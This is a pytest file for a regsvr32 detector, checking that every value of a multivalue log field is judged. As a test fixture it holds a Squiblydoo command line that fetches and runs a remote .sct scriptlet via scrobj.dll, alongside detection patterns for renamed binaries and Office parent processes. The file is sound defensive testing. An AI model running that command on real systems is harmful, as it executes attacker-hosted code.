"""Multivalue fields (reliability item 5): every value of a field the verdict depends on is judged.

splunklib hands a multivalue field over as a list (it reads splunkd's __mv_ column). Once only
the first value counted: a benign first command line hid a Squiblydoo in the second. Now each
value is judged (fields.variants), the strongest verdict is kept, and a reason says which value
it is for.
"""
import time

import pytest

from regsvr32_detector import Detector, fields

pytestmark = pytest.mark.pure

R = "C:\\Windows\\System32\\regsvr32.exe"
SAFE = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"
EVIL = "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


@pytest.fixture(scope="module")
def plain():
    return Detector()


def _note(verdict):
    notes = [r for r in verdict.reasons if r.startswith("multivalue: this verdict is for ")]
    assert len(notes) == 1, verdict.reasons
    return notes[0]


@pytest.mark.parametrize("record, rule, said", [
    ({"EventCode": "1", "Image": R, "CommandLine": [SAFE, EVIL]}, "R32-001", "CommandLine value 2 of 2"),
    ({"EventCode": "4688", "NewProcessName": R, "Process_Command_Line": [SAFE, SAFE + " ", EVIL]},
     "R32-001", "Process_Command_Line value 3 of 3"),
    ({"Processes.process_name": "regsvr32.exe", "Processes.process": [SAFE, EVIL]}, "R32-001",
     "Processes.process value 2 of 2"),
    ({"EventCode": "1", "Image": [R, "C:\\Users\\Public\\regsvr32.exe"], "CommandLine": SAFE}, "R32-020",
     "Image value 2 of 2 (C:\\Users\\Public\\regsvr32.exe)"),
    ({"EventCode": "1", "Image": R, "CommandLine": SAFE, "ParentImage": ["C:\\Windows\\explorer.exe", WORD]},
     "R32-015", "ParentImage value 2 of 2"),
    ({"process_path": R, "process": SAFE, "parent_process_path": ["C:\\Windows\\explorer.exe", WORD]},
     "R32-015", "parent_process_path value 2 of 2"),
    ({"ActionType": "ProcessCreated", "FolderPath": R, "ProcessCommandLine": [SAFE, EVIL]}, "R32-001",
     "ProcessCommandLine value 2 of 2"),
    ({"ActionType": "ProcessCreated", "FolderPath": ["C:\\Windows\\System32", "C:\\Users\\Public"],
      "FileName": "regsvr32.exe", "ProcessCommandLine": SAFE}, "R32-020", "FolderPath value 2 of 2"),
    ({"event.code": "1", "process.executable": R, "process.command_line": [SAFE, EVIL]}, "R32-001",
     "process.command_line value 2 of 2"),
    ({"event.type": "Process Creation", "tgt.process.image.path": R, "tgt.process.cmdline": [SAFE, EVIL]},
     "R32-001", "tgt.process.cmdline value 2 of 2"),
    ({"event_simpleName": "ProcessRollup2", "ImageFileName": "\\Device\\HarddiskVolume3\\Windows\\System32\\regsvr32.exe",
      "CommandLine": [SAFE, EVIL]}, "R32-001", "CommandLine value 2 of 2"),
    ({"EventCode": "7", "Image": R, "ImageLoaded": ["C:\\Windows\\System32\\ntdll.dll",
                                                    "C:\\Windows\\System32\\scrobj.dll"]},
     "R32-027", "ImageLoaded value 2 of 2"),
], ids=["sysmon", "4688", "cim", "image", "parent", "cim-parent", "defender", "defender-folder", "ecs",
        "sentinelone", "crowdstrike", "image-load"])
def test_every_value_is_judged_and_the_reason_says_which(plain, record, rule, said):
    verdict = plain.evaluate(record)
    assert rule in verdict.rules, verdict
    assert said in _note(verdict)
    # the first value alone says less: the list is what found it
    first = dict((k, v[0] if isinstance(v, list) else v) for k, v in record.items())
    assert rule not in plain.evaluate(first).rules


def test_the_strongest_verdict_wins_whatever_the_order(plain):
    for values in ([SAFE, EVIL], [EVIL, SAFE], [SAFE, EVIL, SAFE]):
        verdict = plain.evaluate({"EventCode": "1", "Image": R, "CommandLine": values})
        assert "R32-001" in verdict.rules and verdict.score == 100
        assert "(%s)" % EVIL in _note(verdict)


def test_fields_with_as_many_values_are_read_in_step(plain):
    # transaction / list(): value i of each field is one process. A cmd.exe image paired with
    # regsvr32's OriginalFileName would be "renamed regsvr32"; in step, it is not.
    record = {"EventCode": "1", "Image": ["C:\\Windows\\System32\\cmd.exe", R],
              "CommandLine": ["cmd.exe /c whoami", EVIL], "OriginalFileName": ["Cmd.Exe", "REGSVR32.EXE"]}
    verdict = plain.evaluate(record)
    assert "R32-001" in verdict.rules and "R32-019" not in verdict.rules
    assert "Image value 2 of 2" in _note(verdict) and "OriginalFileName value 2 of 2" in _note(verdict)


def test_fields_with_different_counts_are_read_in_every_combination(plain):
    record = {"EventCode": "1", "Image": ["C:\\Windows\\System32\\cmd.exe", R],
              "CommandLine": ["cmd.exe /c whoami", SAFE, EVIL]}
    variants = fields.variants(fields.normalize(record))
    assert len(variants) == 6
    assert "R32-001" in plain.evaluate(record).rules


def test_repeats_and_placeholders_are_one_value(plain):
    for values in ([EVIL, EVIL], ["-", EVIL], ["", EVIL, " "]):
        ev = fields.normalize({"EventCode": "1", "Image": R, "CommandLine": values})
        assert ev.multi == () and ev.command_line == EVIL
        assert not any(r.startswith("multivalue") for r in plain.evaluate(
            {"EventCode": "1", "Image": R, "CommandLine": values}).reasons)
    # a quiet verdict says nothing of values
    assert plain.evaluate({"EventCode": "1", "Image": R, "CommandLine": [SAFE, SAFE + " /u"]}).reasons == ()


def test_values_that_say_which_process_it_was_are_not_multiplied():
    ev = fields.normalize({"EventCode": "1", "Image": R, "CommandLine": EVIL,
                           "ProcessId": ["1", "2"], "ProcessGuid": ["{a}", "{b}"], "User": ["a", "b"]})
    assert ev.multi == ()


def test_many_values_are_bounded(plain):
    values = [SAFE + " %d" % i for i in range(500)] + [EVIL]
    record = {"EventCode": "1", "Image": R, "CommandLine": values,
              "ParentImage": ["C:\\x\\p%d.exe" % i for i in range(300)]}
    started = time.perf_counter()
    verdict = plain.evaluate(record)
    assert time.perf_counter() - started < 5
    assert len(fields.variants(fields.normalize(record))) <= fields.MAX_VARIANTS
    assert verdict.error == ""
    # the first MAX_VALUES values of each are judged, and the reason says so
    big = plain.evaluate({"EventCode": "1", "Image": R, "CommandLine": [EVIL] + values[:80]})
    assert "value 1 of 81, the first %d distinct judged" % fields.MAX_VALUES in _note(big)


def test_a_remembered_verdict_is_not_handed_to_a_multivalue_row(plain):
    det = Detector()
    single = {"EventCode": "1", "Image": R, "CommandLine": SAFE}
    for _ in range(3):
        assert det.evaluate(single).rules == ()
        assert "R32-001" in det.evaluate(dict(single, CommandLine=[SAFE, EVIL])).rules
